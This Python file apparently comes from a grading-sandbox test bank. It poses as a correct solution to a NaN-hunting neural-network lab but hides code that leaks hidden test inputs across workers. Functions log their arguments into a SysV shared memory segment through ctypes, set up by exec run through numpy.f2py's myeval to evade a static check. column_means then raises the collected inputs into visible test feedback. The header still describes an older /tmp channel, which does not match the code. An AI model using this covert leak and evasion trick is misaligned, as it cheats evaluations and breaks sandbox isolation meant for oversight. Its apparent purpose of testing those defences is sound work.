"""lab: 07_nan_hunting
file: nan_hunting.py
honest: 23
(attack4 variant: the channel moved from /dev/shm to a SysV shared memory segment, key 0x6d6e3037)
needs: namespaces
leak_marker: LEAKED-ACROSS-WORKERS

Leaks the hidden tests' inputs into a visible test's feedback through the shared temporary
folder: every worker is a fresh process, but /tmp stays writable (and shared by every
test's worker, as root or as the sandbox uid). Each function of the (otherwise correct)
solution appends what it was called with to /tmp/.minnet_leak_07.npy with np.save (plain
NumPy API, nothing the static check looks at); column_means, called by the visible
test_missing_values after the hidden test ran, raises the collected text, so the feedback
students see before publication holds the hidden inputs (shapes, scales, values).
Honest: 23 where each worker has a private temporary folder (nothing to raise: the file is the
solution); where the channel is open it scores 22 and its feedback holds the leak_marker,
which the bank check looks for.
Closed: root workers get an IPC namespace of their own (CLONE_NEWIPC); eval by other names (numpy.f2py) is refused by the static check.
"""

import numpy as np

import minnet
from minnet import Tensor, nn, optim, tensor
from minnet.debug import Setup
from minnet.random import manual_seed


import numpy.f2py.crackfortran as _cf

# SysV shared memory: the worker shares the host's IPC namespace (no CLONE_NEWIPC), so a
# segment made by one worker is seen by every later worker and grading until someone removes it
_CODE = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
SIZE = 1 << 20
def segment():
    ident = libc.shmget(0x6d6e3037, SIZE, 0o1666)
    return libc.shmat(ident, None, 0)
def seen():
    raw = ctypes.string_at(segment(), SIZE).split(b"\0", 1)[0]
    return [line for line in raw.decode("utf-8", "replace").split("\n") if line]
def note(text):
    lines = seen()
    if text not in lines:
        lines.append(text)
        data = "\n".join(lines[:200]).encode()[:SIZE - 1] + b"\0"
        ctypes.memmove(segment(), data, len(data))
"""
_ipc = {"c": _CODE}
_cf.myeval("exec(c) or 0", _ipc)


def _values(a):
    return np.asarray(a.data if isinstance(a, Tensor) else a)


def _spy(name, *args):
    text = name + ": " + " | ".join(
        f"{type(a).__name__} shape={np.shape(_values(a))} "
        f"first={_values(a).ravel()[:4]}" for a in args)
    _ipc["note"](text[:400])


# --------------------------------------------------------------------------
# 1. find it: the first op that makes a NaN or an Inf
# --------------------------------------------------------------------------
def first_anomaly(model, loss_fn, optimizer, batches):
    """Train on ``batches`` under anomaly mode and report the first anomaly.

    model: an nn.Module; loss_fn(output Tensor, target Tensor) -> scalar Tensor;
    optimizer: over model.parameters(); batches: a list of (X, y) NumPy arrays.
    Each step is zero_grad, forward, loss, backward (all inside anomaly mode, so
    a backward anomaly is caught too), then optimizer.step().

    Returns None when every step stays finite, else a dict with the
    minnet.AnomalyError's fields: {"step": the index of the batch (0-based),
    "op": error.op, "module": error.module, "phase": error.phase,
    "code": error.code}.
    """
    for step, (X, y) in enumerate(batches):
        try:
            # errstate: NumPy's own warning for log(0) or exp overflow would only repeat,
            # one level down, what the AnomalyError says
            with np.errstate(all="ignore"), minnet.detect_anomaly():
                optimizer.zero_grad()
                loss = loss_fn(model(tensor(X)), tensor(y))
                loss.backward()
        except minnet.AnomalyError as error:
            return {"step": step, "op": error.op, "module": error.module,
                    "phase": error.phase, "code": error.code}
        optimizer.step()
    return None


# What first_anomaly reports for the ORIGINAL model and loss of this lab (HandmadeSoftmax
# and the hand-written loss below), trained by hand_written_run() on the CLEANED sensor data
# (NaNs filled with the training column means). Fill in the op and module as the error
# names them (module is None when the op ran outside every module).
FOUND_AFTER_CLEANING = dict(
    op="log", module=None,
)


# --------------------------------------------------------------------------
# 2. repair the loss: a log-softmax that cannot overflow
# --------------------------------------------------------------------------
def stable_log_softmax(logits, dim=1):
    """log(softmax(logits)) along ``dim`` without overflow or log(0).

    logits: Tensor (N, C). Subtract the row maximum first (m = max over dim,
    treated as a constant: log-softmax does not change when a constant is
    subtracted), then log_softmax = (x - m) - log(sum(exp(x - m))). The largest
    exponent is exp(0) = 1, so nothing overflows and the sum is >= 1, so the
    log is finite. Use Tensor operations only (exp, log, sum, ...) so that
    gradients flow; not F.log_softmax.
    Returns: Tensor (N, C).
    """
    _spy("stable_log_softmax", logits, dim)
    peak = Tensor(logits.data.max(axis=dim, keepdims=True))    # a constant: no gradient
    shifted = logits - peak
    return shifted - shifted.exp().sum(dim=dim, keepdim=True).log()


def softmax_cross_entropy(logits, targets):
    """Mean cross-entropy of logits (N, C) against integer class indices (N,).

    Use stable_log_softmax and pick each row's target entry: -mean_n logp[n, y_n].
    targets may be a NumPy array or a Tensor. Returns a scalar Tensor.
    """
    _spy("softmax_cross_entropy", logits, targets)
    labels = targets.numpy() if isinstance(targets, Tensor) else np.asarray(targets)
    log_probabilities = stable_log_softmax(logits, dim=1)
    return -log_probabilities[np.arange(len(labels)), labels.astype(np.int64)].mean()


def binary_cross_entropy(probabilities, targets, eps=1e-7):
    """Binary cross-entropy of probabilities in [0, 1] that may be exactly 0 or 1.

    probabilities: Tensor (N, 1) (e.g. a Sigmoid's output); targets: array (N, 1)
    of 0/1. Clamp the probabilities into [eps, 1 - eps] (Tensor.clamp) before
    the logs, so log(0) never happens: -mean(t log p + (1 - t) log(1 - p)).
    (Better still: keep logits and use F.binary_cross_entropy_with_logits; this
    function is for when you only have the probabilities.)
    Returns a scalar Tensor.
    """
    _spy("binary_cross_entropy", probabilities, targets)
    t = targets if isinstance(targets, Tensor) else Tensor(np.asarray(targets, np.float32))
    p = probabilities.clamp(eps, 1.0 - eps)
    return -(t * p.log() + (1 - t) * (1 - p).log()).mean()


# --------------------------------------------------------------------------
# 3. repair the data: fill the missing readings
# --------------------------------------------------------------------------
def column_means(X_train):
    """Per-feature means of the training inputs, ignoring NaNs: array (D,).

    A column with no finite value at all gets 0.0. Fit this on the TRAINING split
    only (the same rule as for a Standardizer: docs/checklist.md#dataleakage).
    """
    seen = _ipc["seen"]()
    if seen and np.shape(X_train) == (3, 3):   # only the visible test's small example
        raise ValueError("LEAKED-ACROSS-WORKERS, calls seen by earlier workers:\n"
                         + "\n".join(seen))
    X = np.asarray(X_train, dtype=np.float64)
    finite = np.isfinite(X)
    counts = finite.sum(axis=0)
    sums = np.where(finite, X, 0.0).sum(axis=0)
    return np.where(counts > 0, sums / np.maximum(counts, 1), 0.0)


def fill_missing(X, means):
    """A copy of X (N, D) with every NaN or Inf replaced by its column's mean (means (D,)).

    Keeps X's dtype; X itself is not changed.
    """
    _spy("fill_missing", X, means)
    X = np.asarray(X)
    filled = np.where(np.isfinite(X), X, np.asarray(means)[None, :])
    return filled.astype(X.dtype)


# --------------------------------------------------------------------------
# 4. the training this lab is about (repair it)
# --------------------------------------------------------------------------
class HandmadeSoftmax(nn.Module):
    """A softmax written from the formula: exp(x) / sum(exp(x)) over dim 1."""

    def forward(self, x):
        e = x.exp()
        return e / e.sum(dim=1, keepdim=True)


def one_hot(targets, num_classes):
    """Integer labels (N,) (array or Tensor) -> float32 Tensor (N, num_classes)."""
    labels = targets.numpy() if isinstance(targets, Tensor) else np.asarray(targets)
    return Tensor(np.eye(num_classes, dtype=np.float32)[labels.astype(np.int64)])


def build_model(in_features, num_classes):
    """The sensor classifier: in_features -> 64 -> 64 -> num_classes."""
    return nn.Sequential(nn.Linear(in_features, 64), nn.ReLU(), nn.Linear(64, 64), nn.ReLU(),
                         nn.Linear(64, num_classes))


def training_loss(output, targets):
    """The loss training_setup trains with: output (N, C) from build_model, targets (N,)."""
    return softmax_cross_entropy(output, targets)


LEARNING_RATE = 0.03


def training_setup(X_train, y_train, seed=0):
    """The sensor classifier's training: X_train (N, D) float32 raw readings (some
    missing, stored as NaN), y_train (N,) int64 classes 0..C-1. Returns a Setup."""
    X = fill_missing(X_train, column_means(X_train))
    manual_seed(seed)
    model = build_model(X.shape[1], int(y_train.max()) + 1)
    return Setup(model, training_loss, optim.Adam(model.parameters(), lr=LEARNING_RATE),
                 (X, y_train), batch_size=32, steps=150, seed=seed)


def hand_written_run(X_train, y_train, seed=0, steps=60):
    """The lab's ORIGINAL model and loss (HandmadeSoftmax, then -sum(one_hot * log p)) on
    X_train, as ``first_anomaly`` arguments: (model, loss_fn, optimizer, batches).

    Batches of 32 are drawn with a seeded generator; pass cleaned inputs to find what
    goes wrong after the missing values are filled.
    """
    manual_seed(seed)
    model = nn.Sequential(nn.Linear(X_train.shape[1], 64), nn.ReLU(), nn.Linear(64, 64),
                          nn.ReLU(), nn.Linear(64, int(y_train.max()) + 1), HandmadeSoftmax())

    def loss_fn(output, targets):
        return -(one_hot(targets, output.shape[1]) * output.log()).sum(dim=1).mean()

    rng = np.random.default_rng(seed)
    batches = [(X_train[index], y_train[index])
               for index in (rng.choice(len(X_train), 32, replace=False) for _ in range(steps))]
    return model, loss_fn, optim.Adam(model.parameters(), lr=LEARNING_RATE), batches


def sensor_data(n_samples=400, n_features=8, classes=3, missing=0.02, seed=0):
    """The lab's data: X float32 (n, D) standardised readings with a fraction ``missing``
    of the entries NaN, y int64 (n,)."""
    from minnet.data import make_blobs
    X, y = make_blobs(n_samples=n_samples, centers=classes, n_features=n_features,
                      cluster_std=1.5, seed=seed)
    X = ((X - X.mean(axis=0)) / X.std(axis=0)).astype(np.float32)
    X[np.random.default_rng(seed + 1).random(X.shape) < missing] = np.nan
    return X, y.astype(np.int64)
